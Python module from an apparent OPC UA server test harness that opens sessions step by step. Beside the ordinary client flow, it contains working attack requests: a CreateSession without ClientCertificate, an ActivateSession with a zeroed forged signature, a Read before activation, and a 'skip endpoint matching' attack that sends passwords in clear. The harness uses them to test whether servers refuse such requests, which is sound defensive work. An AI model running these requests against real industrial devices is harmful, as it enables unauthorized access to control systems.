"""The steps of opening an OPC UA session one at a time: the ordinary client's (endpoint, channel, session,
activation), and the requests a careless server may not check — a client that skips endpoint matching, a
CreateSession without ClientCertificate, an ActivateSession with a forged ClientSignature, a Read before
ActivateSession (``SessionSpec.tamper``). Each yields the step it is about to take, so ``open_session`` knows
where a refusal came (opcua_session.py turns that into a ``SessionAttempt``)."""

from __future__ import annotations

from typing import Any

from harness.config.opcua_map import SecurityMode, SecurityPolicy
from harness.devices.api import DeviceError
from harness.devices.opcua_session import SESSION_TIMEOUT_MS, SessionSpec, UserPassword, X509Identity
from harness.reporting.texts import Msg


async def matched(client: Any, spec: SessionSpec, credentials: tuple[str | None, str | None, Any]) -> Any:
    """The ordinary client: endpoint matching (GetEndpoints over a None channel, as every client does
    first), then channel, session, activation."""
    from asyncua import ua

    user, password, certificate = credentials
    yield "endpoint"
    if spec.policy != SecurityPolicy.NONE:
        await client.set_security(policy_class(spec.policy), str(spec.application.der), str(spec.application.key),
                                  mode=getattr(ua.MessageSecurityMode, spec.mode.value))
    elif spec.mode != SecurityMode.NONE:
        raise ValueError("policy None goes with mode None")
    yield "channel"
    await open_channel(client)
    yield "session"
    if spec.tamper == "no_client_certificate":
        await create_session_without_certificate(client)
    else:
        await client.create_session()
    if spec.tamper == "read_before_activation":  # Part 4 5.6.2: nothing but ActivateSession before activation
        yield "use"
        await read_server_state(client)
        return
    yield "activation"
    if spec.tamper == "forged_client_signature":
        await activate_with_forged_signature(client, user, password, certificate)
    else:
        await client.activate_session(username=user, password=password, certificate=certificate)
    if spec.tamper:  # accepted only when the session is of use
        yield "use"
        await read_server_state(client)
    keep_channel_renewed(client)


async def activate_with_forged_signature(client: Any, user: str | None, password: str | None,
                                          certificate: Any) -> None:
    """ActivateSession as asyncua's client sends it, but its ClientSignature (the proof that the client holds the
    key of the certificate it presented, Part 4 5.6.3) is zeros of the right length."""
    crypto = client.security_policy.asymmetric_cryptography
    crypto.signature = lambda data: bytes(len(type(crypto).signature(crypto, data)))
    try:
        await client.activate_session(username=user, password=password, certificate=certificate)
    finally:
        del crypto.signature  # the class's own again


async def create_session_without_certificate(client: Any) -> None:
    """CreateSession over the secured channel as asyncua's client sends it, but with no ClientCertificate.

    Part 4 (5.6.2) requires the field on every secured policy; a server that checks its trust list only
    when the field is filled in (asyncua's does) lets a channel opened with any certificate get a session."""
    from asyncua import ua
    from asyncua.common.utils import create_nonce

    params = ua.CreateSessionParameters()
    params.ClientDescription = ua.ApplicationDescription(
        ApplicationUri=client.application_uri, ProductUri=client.product_uri,
        ApplicationName=ua.LocalizedText(client.name), ApplicationType=ua.ApplicationType.Client)
    params.ClientNonce = create_nonce(32)
    params.ClientCertificate = None
    params.EndpointUrl = client.server_url.geturl()
    params.SessionName = "tek-harness without ClientCertificate"
    params.RequestedSessionTimeout = SESSION_TIMEOUT_MS
    params.MaxResponseMessageSize = 0
    response = await client.uaclient.create_session(params)
    client._server_nonce = response.ServerNonce  # what ActivateSession's ClientSignature signs


async def read_server_state(client: Any) -> None:
    """A first Read (ServerStatus.State): a session that cannot read has not been granted."""
    from asyncua import ua

    state = await client.uaclient.read(ua.ReadParameters(NodesToRead=[ua.ReadValueId(
        NodeId=ua.NodeId(ua.ObjectIds.Server_ServerStatus_State), AttributeId=ua.AttributeIds.Value)]))
    state[0].StatusCode.check()


async def open_channel(client: Any) -> None:
    """Socket, Hello and OpenSecureChannel with the client's security as set (None when unset)."""
    client.uaclient.clear_disconnect_request()
    await client.connect_socket()
    await client.send_hello()
    await client.open_secure_channel()


async def skipping_endpoint_matching(client: Any, spec: SessionSpec,
                                           credentials: tuple[str | None, str | None, Any]) -> Any:
    """The attack: a SecurityPolicy None channel, CreateSession/ActivateSession sent as they are.

    A well-behaved client refuses to go on when the device lists no endpoint for policy None; an
    attacker does not ask. The identity token is sent as the device's token policies describe it,
    but unencrypted (a password travels in clear). Accepted only when a first Read also works."""
    from asyncua import ua
    from asyncua.common.utils import create_nonce
    from asyncua.crypto import security_policies, uacrypto

    user, password, certificate = credentials
    yield "channel"
    await open_channel(client)
    yield "session"
    params = ua.CreateSessionParameters()
    params.ClientDescription = ua.ApplicationDescription(
        ApplicationUri=client.application_uri, ProductUri=client.product_uri,
        ApplicationName=ua.LocalizedText(client.name), ApplicationType=ua.ApplicationType.Client)
    params.ClientNonce = create_nonce(32)
    params.ClientCertificate = uacrypto.der_from_x509(certificate) if certificate is not None else None
    params.EndpointUrl = spec.url
    params.SessionName = "tek-harness skip-endpoint-matching"
    params.RequestedSessionTimeout = SESSION_TIMEOUT_MS
    params.MaxResponseMessageSize = 0
    response = await client.uaclient.create_session(params)
    token_policies = [p for ep in response.ServerEndpoints or [] for p in ep.UserIdentityTokens or []]
    yield "activation"
    activate = ua.ActivateSessionParameters()
    activate.LocaleIds = ["en"]
    if isinstance(spec.identity, UserPassword):
        token = ua.UserNameIdentityToken(PolicyId=policy_id(token_policies, ua.UserTokenType.UserName, "username"),
                                         UserName=user, Password=(password or "").encode("utf-8"),
                                         EncryptionAlgorithm=None)
    elif isinstance(spec.identity, X509Identity):
        policy = next((p for p in token_policies if p.TokenType == ua.UserTokenType.Certificate), None)
        server_cert = uacrypto.der_from_x509(uacrypto.x509_from_der(response.ServerCertificate)) \
            if response.ServerCertificate else b""
        token = ua.X509IdentityToken(PolicyId=policy.PolicyId if policy else "certificate",
                                     CertificateData=uacrypto.der_from_x509(certificate))
        signature, algorithm = security_policies.sign_asymmetric(
            client.user_private_key, server_cert + (response.ServerNonce or b""),
            policy.SecurityPolicyUri if policy and policy.SecurityPolicyUri else
            security_policies.SecurityPolicyBasic256Sha256.URI)
        activate.UserTokenSignature = ua.SignatureData(Algorithm=algorithm, Signature=signature)
    else:
        token = ua.AnonymousIdentityToken(PolicyId=policy_id(token_policies, ua.UserTokenType.Anonymous,
                                                              "anonymous"))
    activate.UserIdentityToken = token
    await client.uaclient.activate_session(activate)
    yield "use"
    await read_server_state(client)
    keep_channel_renewed(client)


def policy_id(policies: list[Any], token_type: Any, default: str) -> str:
    return next((p.PolicyId for p in policies if p.TokenType == token_type), default)


def keep_channel_renewed(client: Any) -> None:
    """asyncua renews the secure channel before its lifetime ends only from connect(); we open step by step."""
    start = getattr(client, "_start_renew_loop", None)
    if start is not None:
        start()


def policy_class(policy: SecurityPolicy) -> Any:
    from asyncua.crypto import security_policies

    for name in dir(security_policies):
        cls = getattr(security_policies, name)
        if isinstance(cls, type) and getattr(cls, "URI", None) == policy.uri:
            return cls
    raise DeviceError(Msg("asyncua implements no security policy {policy}", policy=policy.value))
